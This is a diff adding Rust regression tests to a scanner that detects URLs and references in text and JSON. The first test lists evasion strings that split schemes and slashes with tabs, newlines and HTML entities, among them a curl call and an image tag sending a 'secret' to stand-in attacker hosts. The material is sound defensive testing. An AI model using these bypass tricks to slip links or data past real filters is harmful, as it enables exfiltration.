@@ -469,3 +469,64 @@ fn shortcuts_for_hostile_input_keep_every_finding() {
         assert_eq!(scanner.scan(text), None, "{text:?}");
     }
 }
+
+/// Found by attacking the scanner: WHATWG parsers delete tabs and line breaks anywhere in
+/// a URL, so a break inside the scheme or its slashes (`https\n://`, `/\t/host`, or
+/// `https&#10;://` once decoded) still leads to the host; so do mixed slashes (`/\host`)
+/// and a scheme longer than the pattern reads.
+#[test]
+fn regression_breaks_in_schemes_and_slashes_and_long_schemes() {
+    let scanner = ReferenceScanner::default();
+    for text in [
+        "https\n://evil.com/x",
+        "https\t://evil.com/x",
+        "https\r\n://evil.com/",
+        "http\n:/evil.com/x",
+        "http\n:\\\\evil.com",
+        "h\nttp\n:\n/\n/\nevil.com",
+        "ws\n://evil.com/socket",
+        "redis\n://evil.com:6379",
+        "https\n://134744072/",
+        "curl https\n://evil.com/x",
+        "/\n/evil.com/x",
+        "\\\n\\evil.com\\x",
+        "/\t\\evil.com/x",
+        "///evil\n.com/x",
+        "\\\\/evil\n.com/x",
+        "/\\evil.com/x",
+        "\\/evil.com/x",
+        "<img src=\"https&#10;://attacker.example.net/p.png?d=secret\">",
+        "<img src=\"/&#9;/evil.com/p.png\">",
+        "<a href=\"///evil&#10;.com/x\">",
+        "[a](<https\t://evil.com/>)",
+        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa://evil.com/x",
+    ] {
+        assert!(scanner.scan(text).is_some(), "{text:?}");
+    }
+    // Lines that only meet when joined are still ordinary text.
+    for text in [
+        "Call me at 10:30\n//TODO later",
+        "note:\n// a comment",
+        "see the docs\nhttp://intranet/wiki",
+        "a /\\ b",
+    ] {
+        assert_eq!(scanner.scan(text), None, "{text:?}");
+    }
+}
+
+/// Found by attacking the scanner: a path was formatted for every item of a list, so a
+/// megabyte key above a long list was copied once per item (quadratic), and errors echoed
+/// the whole key. Paths show at most 64 characters of a key.
+#[test]
+fn regression_long_keys_above_long_lists_are_not_copied_per_item() {
+    let scanner = ReferenceScanner::default();
+    let key = "k".repeat(100_000);
+    let mut items = vec![Json::from(0); 10_000];
+    items.push(Json::from("https://evil.example.com/"));
+    let value = serde_json::json!({ key.clone(): items });
+    let mut found = Vec::new();
+    scanner.scan_json(&value, "metadata", 20, &mut found);
+    assert_eq!(found.len(), 1);
+    let expected = format!("metadata.{}…[10000]", "k".repeat(64));
+    assert_eq!(found[0].0, expected);
+}
